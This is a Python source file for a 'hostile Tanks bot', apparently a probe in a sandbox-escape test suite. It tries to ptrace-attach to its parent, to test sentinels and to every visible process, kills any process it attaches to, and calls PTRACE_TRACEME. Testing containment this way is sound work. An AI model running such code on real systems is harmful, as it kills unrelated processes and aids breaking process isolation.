"""Hostile Tanks bot: ptrace.

The bot tries to trace other processes: the escape driver's sentinels by
their host PIDs, its parent, and (when told to scan) every other process
it can see, with PTRACE_ATTACH and PTRACE_SEIZE; a process it manages to
attach is killed with PTRACE_KILL so that the host sees it die. It also
asks to be traced by its parent (PTRACE_TRACEME), which would hand it to
whoever traces it, and checks whether it can read the other processes'
memory through process_vm_readv.
"""
# @ESCAPE_PRELUDE@


import ctypes


def attack():
    lib = libc()
    lib.ptrace.restype = ctypes.c_long
    lib.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    me = os.getpid()
    targets = [int(p) for p in CFG.get('sentinels', [])]
    if os.getppid() > 0:
        targets.append(os.getppid())
    if CFG.get('ptrace_scan', True):
        try:
            targets.extend(int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (me, 1))
        except OSError:
            pass
    for pid in targets:
        if pid == me:
            continue
        for req in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            r = lib.ptrace(req, pid, None, None)
            if r == 0:
                evidence('ptrace request %#x attached to %d' % (req, pid))
                try:
                    os.waitpid(pid, os.WNOHANG | 0x40000000)  # __WALL
                except OSError:
                    pass
                lib.ptrace(8, pid, None, None)  # PTRACE_KILL
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
                break
            note('ptrace(%#x, %d): errno %d' % (req, pid, ctypes.get_errno()))
    r = lib.ptrace(0, 0, None, None)  # PTRACE_TRACEME
    note('PTRACE_TRACEME returned %d errno %d' % (r, ctypes.get_errno()))


# @ESCAPE_ATTACK_MAIN@
